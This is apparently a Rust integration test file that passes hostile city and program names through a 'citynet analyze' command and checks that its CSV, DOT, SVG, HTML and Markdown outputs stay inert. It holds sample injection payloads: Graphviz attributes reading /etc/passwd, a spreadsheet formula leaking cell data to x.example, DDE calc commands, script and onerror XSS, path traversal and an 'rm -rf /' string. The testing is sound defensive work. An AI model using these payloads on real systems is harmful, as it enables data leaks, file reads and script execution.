//! Hostile names end to end: city, country and program names built to attack each
//! output — Graphviz attribute injection, spreadsheet formulas, HTML/SVG script, path
//! traversal, Graphviz escapes, bidirectional overrides, very long names — go through
//! `citynet analyze`, and every file written is checked to be inert.

mod common;
use common::{citynet, require_graphviz};
use graphviz_rust::dot_structures::{Attribute, Edge, Graph, GraphAttributes, Id, Node, Stmt};
use std::path::Path;

fn hostile_cities() -> Vec<String> {
    vec![
        r#"evil", image="/etc/passwd"#.into(),
        r#"x" shapefile="/etc/shadow" y="#.into(),
        r#"=HYPERLINK("http://x.example/?leak="&A1,"click")"#.into(),
        "+cmd|' /C calc'!A0".into(),
        "@SUM(1+1)".into(),
        "-2+3".into(),
        "<script>alert(1)</script>".into(),
        "../../etc/passwd".into(),
        "/etc/passwd".into(),
        r"\N \G \L \E".into(),
        "\u{202E}gpj.exe".into(),
        "line\nbreak".into(),
        "]; n0 -> n1 [URL=\"javascript:alert(1)\"".into(),
        "<<b>html</b>>".into(),
        "&amp; &#x3c;".into(),
        format!("Long{}", "o".repeat(1200)), // past the 255-byte limit of file names
    ]
}

const PROGRAMS: [&str; 3] = [
    r#"prog", fontpath="/etc", label="x"#,
    "=1+1",
    "<img src=x onerror=alert(1)>",
];

/// What a text cell must never start with in a neutralised CSV (a plain number such as
/// `-31.6` is a number to a spreadsheet, not a formula).
fn formula_start(s: &str) -> bool {
    let number = s.parse::<f64>().is_ok() && !s.chars().any(|c| c.is_alphabetic());
    !number && matches!(s.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
}

/// Graphviz attributes that read files or make links: data must never produce them.
const DANGEROUS: [&str; 12] = [
    "image",
    "imagepath",
    "shapefile",
    "fontpath",
    "fontnames",
    "url",
    "href",
    "target",
    "labelurl",
    "edgeurl",
    "headurl",
    "tailurl",
];

fn id_text(id: &Id) -> &str {
    match id {
        Id::Plain(s) | Id::Escaped(s) | Id::Html(s) | Id::Anonymous(s) => s,
    }
}

/// Undoes DOT's `\"` and `\\` inside a quoted string.
fn unescape(s: &str) -> String {
    let inner = s
        .strip_prefix('"')
        .and_then(|s| s.strip_suffix('"'))
        .unwrap_or(s);
    let mut out = String::new();
    let mut it = inner.chars();
    while let Some(c) = it.next() {
        if c == '\\' {
            out.extend(it.next());
        } else {
            out.push(c);
        }
    }
    out
}

/// Every attribute of every statement, with where it was.
fn attributes(stmts: &[Stmt], out: &mut Vec<(String, Attribute)>) {
    for s in stmts {
        match s {
            Stmt::Node(Node { id, attributes }) => out.extend(
                attributes
                    .iter()
                    .map(|a| (format!("node {}", id_text(&id.0)), a.clone())),
            ),
            Stmt::Edge(Edge { attributes, .. }) => {
                out.extend(attributes.iter().map(|a| ("edge".to_string(), a.clone())))
            }
            Stmt::GAttribute(g) => {
                let v = match g {
                    GraphAttributes::Graph(v)
                    | GraphAttributes::Node(v)
                    | GraphAttributes::Edge(v) => v,
                };
                out.extend(v.iter().map(|a| ("defaults".to_string(), a.clone())))
            }
            Stmt::Attribute(a) => out.push(("graph".to_string(), a.clone())),
            Stmt::Subgraph(sg) => attributes(&sg.stmts, out),
        }
    }
}

fn check_dot(dot: &str, names: &[String]) {
    let g = graphviz_rust::parse(dot).unwrap_or_else(|e| panic!("DOT does not parse: {e}"));
    let stmts = match &g {
        Graph::Graph { stmts, .. } | Graph::DiGraph { stmts, .. } => stmts,
    };
    // Node ids are generated, never data.
    for s in stmts {
        if let Stmt::Node(n) = s {
            let id = id_text(&n.id.0);
            assert!(
                id.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
                "node id from data: {id}"
            );
        }
    }
    let mut attrs = vec![];
    attributes(stmts, &mut attrs);
    assert!(!attrs.is_empty());
    let mut labels = vec![];
    for (at, Attribute(k, v)) in &attrs {
        let key = id_text(k).to_ascii_lowercase();
        assert!(
            !DANGEROUS.contains(&key.as_str()),
            "{at}: dangerous attribute {key}={}",
            id_text(v)
        );
        assert!(
            key.chars().all(|c| c.is_ascii_lowercase() || c == '_'),
            "{at}: attribute name from data: {key}"
        );
        let value = id_text(v);
        if let Id::Html(h) = v {
            check_html_label(h, at);
        }
        if matches!(key.as_str(), "label" | "xlabel" | "tooltip") {
            labels.push(label_text(v));
        } else {
            // Style values are citynet's own, never text from the data.
            for bad in [
                "passwd",
                "shadow",
                "HYPERLINK",
                "script",
                "javascript",
                "/etc",
            ] {
                assert!(!value.contains(bad), "{at}: {key}={value}");
            }
        }
    }
    // The injection attempts come back as label text, whole.
    for n in names.iter().take(2) {
        assert!(
            labels.iter().any(|l| l.contains(n.as_str())),
            "no label reads {n:?}; labels: {labels:?}"
        );
    }
}

/// The text a label shows: a quoted string unescaped, or an HTML-like label without its tags
/// and with its character entities decoded.
fn label_text(v: &Id) -> String {
    match v {
        Id::Html(h) => {
            let inner = &h[1..h.len() - 1];
            let mut text = String::new();
            let mut in_tag = false;
            for c in inner.chars() {
                match c {
                    '<' => in_tag = true,
                    '>' => in_tag = false,
                    c if !in_tag => text.push(c),
                    _ => {}
                }
            }
            text.replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&")
        }
        other => unescape(id_text(other)),
    }
}

/// An HTML-like label holds only formatting tags citynet writes: no `<IMG SRC=...>` (which
/// makes Graphviz read a file) and no tag or attribute that came from data.
fn check_html_label(h: &str, at: &str) {
    const TAGS: [&str; 14] = [
        "FONT", "B", "I", "U", "S", "O", "BR", "SUB", "SUP", "TABLE", "TR", "TD", "HR", "VR",
    ];
    const ATTRS: [&str; 12] = [
        "COLOR",
        "POINT-SIZE",
        "FACE",
        "ALIGN",
        "BALIGN",
        "BORDER",
        "CELLBORDER",
        "CELLSPACING",
        "CELLPADDING",
        "BGCOLOR",
        "COLSPAN",
        "VALIGN",
    ];
    let inner = &h[1..h.len() - 1];
    let mut rest = inner;
    while let Some(i) = rest.find('<') {
        let end = rest[i..]
            .find('>')
            .map(|e| i + e)
            .expect("unclosed tag in label");
        let tag = rest[i + 1..end]
            .trim_start_matches('/')
            .trim_end_matches('/');
        let mut parts = tag.split_whitespace();
        let name = parts.next().unwrap_or("").to_ascii_uppercase();
        assert!(
            TAGS.contains(&name.as_str()),
            "{at}: tag <{tag}> in label {h}"
        );
        for a in parts {
            let key = a.split('=').next().unwrap().to_ascii_uppercase();
            assert!(
                ATTRS.contains(&key.as_str()),
                "{at}: attribute {a} in label {h}"
            );
        }
        rest = &rest[end + 1..];
    }
}

fn check_csv(path: &Path, text_cols: &[&str]) {
    let mut r = csv::Reader::from_path(path).unwrap();
    let h: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let cols: Vec<usize> = text_cols
        .iter()
        .filter_map(|c| h.iter().position(|x| x == c))
        .collect();
    assert!(!cols.is_empty(), "{path:?}: none of {text_cols:?} in {h:?}");
    let mut n = 0;
    for rec in r.records() {
        let rec = rec.unwrap();
        for &c in &cols {
            let cell = &rec[c];
            assert!(!formula_start(cell), "{path:?}: live formula {cell:?}");
            n += 1;
        }
    }
    assert!(n > 0);
}

/// Whether `pat` occurs in Markdown `md` with its first character not backslash-escaped.
fn unescaped_in(md: &str, pat: &str) -> bool {
    md.match_indices(pat)
        .any(|(i, _)| i == 0 || md.as_bytes()[i - 1] != b'\\')
}

/// Every tag of the SVG is one Graphviz writes, with no link or event handler: names can
/// only be text (`&lt;script&gt;`), never markup.
fn check_svg_markup(svg: &str, f: &str) {
    const TAGS: [&str; 20] = [
        "?xml", "!DOCTYPE", "!--", "svg", "g", "title", "text", "tspan", "path", "polygon",
        "ellipse", "polyline", "defs", "desc", "rect", "line", "circle", "clipPath", "stop", "a",
    ];
    let mut rest = svg;
    let mut n = 0;
    while let Some(i) = rest.find('<') {
        let end = rest[i..].find('>').map(|e| i + e).expect("unclosed tag");
        let tag = &rest[i + 1..end];
        let name = tag
            .trim_start_matches('/')
            .split(|c: char| c.is_whitespace() || c == '>')
            .next()
            .unwrap();
        let name = if tag.starts_with("!--") { "!--" } else { name };
        assert!(TAGS.contains(&name), "{f}: unexpected element <{tag}>");
        if name != "!--" {
            for attr in attribute_names(tag) {
                let a = attr.to_ascii_lowercase();
                assert!(
                    !a.contains("href") && !a.starts_with("on"),
                    "{f}: link or handler {attr} in <{tag}>"
                );
            }
        }
        n += 1;
        rest = &rest[end + 1..];
    }
    assert!(n > 10, "{f}: only {n} tags");
}

/// report.html: names are text only. No event-handler attribute anywhere, exactly one
/// `<script>` element (citynet's own), images only from data URIs or files in the folder,
/// links only to anchors, files in the folder or the web.
fn check_html_report(html: &str) {
    let mut scripts = 0;
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        let Some(end) = rest[i..].find('>').map(|e| i + e) else {
            break;
        };
        let tag = &rest[i + 1..end];
        let name = tag
            .split(|c: char| c.is_whitespace() || c == '/')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        if name == "script" {
            scripts += 1;
            // Skip the script's own code.
            let close = rest[end..].find("</script>").expect("unclosed script") + end;
            rest = &rest[close + "</script>".len()..];
            continue;
        }
        if !name.starts_with('!') {
            for a in attribute_names(tag) {
                assert!(
                    !a.to_ascii_lowercase().starts_with("on"),
                    "report.html: handler {a} in <{tag}>"
                );
            }
            for (attr, ok) in [
                (" src=\"", &["data:image/", "figures/"][..]),
                (" href=\"", &["#", "figures/", "https://", "http://"][..]),
            ] {
                if let Some(j) = tag.find(attr) {
                    let v = &tag[j + attr.len()..];
                    assert!(
                        ok.iter().any(|p| v.starts_with(p)),
                        "report.html: <{name}{attr}{}…",
                        &v[..v.len().min(60)]
                    );
                }
            }
        }
        rest = &rest[end + 1..];
    }
    assert_eq!(scripts, 1, "report.html has {scripts} <script> elements");
}

/// The attribute names of a tag's text (`name a="x" b='y'`), quoted values skipped.
fn attribute_names(tag: &str) -> Vec<String> {
    let mut names = vec![];
    let mut chars = tag.chars().peekable();
    // Skip the element name.
    while chars.peek().is_some_and(|c| !c.is_whitespace()) {
        chars.next();
    }
    loop {
        while chars.peek().is_some_and(|c| c.is_whitespace()) {
            chars.next();
        }
        let mut name = String::new();
        while let Some(&c) = chars.peek() {
            if c == '=' || c.is_whitespace() {
                break;
            }
            name.push(c);
            chars.next();
        }
        if name.is_empty() && chars.peek().is_none() {
            break;
        }
        if chars.peek() == Some(&'=') {
            chars.next();
            if let Some(q @ ('"' | '\'')) = chars.next() {
                for c in chars.by_ref() {
                    if c == q {
                        break;
                    }
                }
            }
        }
        if !name.is_empty() && name != "/" && name != "?" {
            names.push(name);
        }
    }
    names
}

/// Every file under `dir`, relative.
fn files(dir: &Path, root: &Path, out: &mut Vec<String>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            files(&p, root, out);
        } else {
            out.push(p.strip_prefix(root).unwrap().to_string_lossy().to_string());
        }
    }
}

#[test]
fn hostile_names_leave_every_output_inert() {
    let d = tempfile::tempdir().unwrap();
    let input = d.path().join("hostile.csv");
    let names = hostile_cities();
    let mut w = csv::Writer::from_path(&input).unwrap();
    w.write_record(["city", "country", "program", "note"])
        .unwrap();
    for (i, n) in names.iter().enumerate() {
        for p in PROGRAMS.iter().take(1 + i % 3) {
            w.write_record([n.as_str(), "=1+1", p, "@note"]).unwrap();
        }
    }
    w.flush().unwrap();
    let out = d.path().join("out");
    let mut cmd = citynet();
    cmd.arg("analyze").arg(&input).arg("--out").arg(&out);
    require_graphviz();
    let o = cmd.output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    // Terminal output carries no raw control or bidi characters from the data.
    assert!(!err.contains('\u{202E}'), "{err}");

    // Nothing was written outside the result folder.
    let mut all = vec![];
    files(d.path(), d.path(), &mut all);
    assert!(
        all.iter()
            .all(|f| f == "hostile.csv" || f.starts_with("out/")),
        "{all:?}"
    );

    check_csv(&out.join("cities.csv"), &["city", "country", "note"]);
    check_csv(&out.join("programs.csv"), &["program", "member_cities"]);
    let (_, rows) = common::read_csv(&out.join("cities.csv"));
    assert_eq!(rows.len(), names.len());
    assert!(rows
        .iter()
        .any(|r| r[0] == "'=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")"));

    let summary: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["counts"]["cities"], names.len());
    let md = std::fs::read_to_string(out.join("summary.md")).unwrap();
    for bad in ["<script", "<img"] {
        assert!(!unescaped_in(&md, bad), "summary.md has {bad}:\n{md}");
    }
    check_html_report(&std::fs::read_to_string(out.join("report.html")).unwrap());

    let mut figs = vec![];
    files(&out.join("figures"), &out, &mut figs);
    let dots: Vec<&String> = figs.iter().filter(|f| f.ends_with(".dot")).collect();
    assert!(!dots.is_empty(), "{figs:?}");
    for f in &dots {
        check_dot(&std::fs::read_to_string(out.join(f)).unwrap(), &names);
    }
    let mut shown = 0;
    for f in figs.iter().filter(|f| f.ends_with(".svg")) {
        let svg = std::fs::read_to_string(out.join(f)).unwrap();
        check_svg_markup(&svg, f);
        if svg.contains("&lt;script&gt;") {
            shown += 1;
        }
    }
    assert!(
        shown > 0,
        "no SVG shows the <script> name as text: {figs:?}"
    );
    // File names are plain: no traversal, no control characters.
    for f in &figs {
        assert!(
            f.chars().all(|c| !c.is_control() && c != '\u{202E}'),
            "{f:?}"
        );
    }
}

#[test]
fn hostile_network_metadata_is_inert() {
    let d = tempfile::tempdir().unwrap();
    let net = d.path().join("net");
    std::fs::create_dir(&net).unwrap();
    std::fs::write(
        net.join("network.toml"),
        r#"title = "<script>alert(1)</script> \" ] [image=\"/etc/passwd\""
description = "[click](javascript:alert(1)) | table | <img src=x>"
[[sources]]
name = "=HYPERLINK(\"http://x\")"
url = "javascript:alert(1)"
licence = "<b>"
date = "`rm -rf /`"
"#,
    )
    .unwrap();
    std::fs::write(
        net.join("cities.csv"),
        "name,country,lat,lon,mayor\nA,X,-31.6333,-60.7,=cmd|' /C calc'!A0\nB,X,,,@bad\n",
    )
    .unwrap();
    std::fs::write(net.join("programs.csv"), "name,theme\nP,+1\n").unwrap();
    std::fs::write(
        net.join("memberships.csv"),
        "city,country,program\nA,X,P\nB,X,P\n",
    )
    .unwrap();
    let out = d.path().join("out");
    let mut cmd = citynet();
    cmd.arg("analyze").arg(&net).arg("--out").arg(&out);
    require_graphviz();
    cmd.assert().success();
    check_csv(&out.join("cities.csv"), &["mayor"]);
    // Regression: negative coordinates sit in text columns and were prefixed with ' too,
    // turning numbers into text. Numbers stay numbers.
    let (h, rows) = common::read_csv(&out.join("cities.csv"));
    let col = |n: &str| h.iter().position(|x| x == n).unwrap();
    assert_eq!(rows[0][col("lat")], "-31.6333");
    assert_eq!(rows[0][col("lon")], "-60.7");
    assert_eq!(rows[0][col("mayor")], "'=cmd|' /C calc'!A0");
    check_csv(&out.join("programs.csv"), &["theme"]);
    let md = std::fs::read_to_string(out.join("summary.md")).unwrap();
    // Markdown markup from data is backslash-escaped (`\<script\>`, `\[click\]`), so
    // it shows as text: no tag, link or code span starts unescaped.
    for bad in ["<script", "<img", "<b>", "[click]", "`rm"] {
        assert!(!unescaped_in(&md, bad), "summary.md has {bad}:\n{md}");
    }
    assert!(md.contains("\\<script\\>"), "{md}");
    let dot = std::fs::read_to_string(out.join("figures/network.dot")).unwrap();
    check_dot(&dot, &[]);
    let svg = std::fs::read_to_string(out.join("figures/network.svg")).unwrap();
    assert!(!svg.to_lowercase().contains("<script"));
}

// The checkers themselves must be able to fail.
#[test]
#[should_panic(expected = "handler onerror")]
fn report_checker_catches_a_live_handler() {
    check_html_report("<html><script>x</script><td><img src=x onerror=alert(1)></td></html>");
}

#[test]
#[should_panic(expected = "unexpected element <script")]
fn svg_checker_catches_a_script_element() {
    check_svg_markup(
        &format!(
            "<svg>{}<script>alert(1)</script></svg>",
            "<g></g>".repeat(6)
        ),
        "t.svg",
    );
}

#[test]
#[should_panic(expected = "dangerous attribute image")]
fn dot_checker_catches_an_injected_attribute() {
    check_dot(r#"graph G { n0 [label="evil", image="/etc/passwd"] }"#, &[]);
}
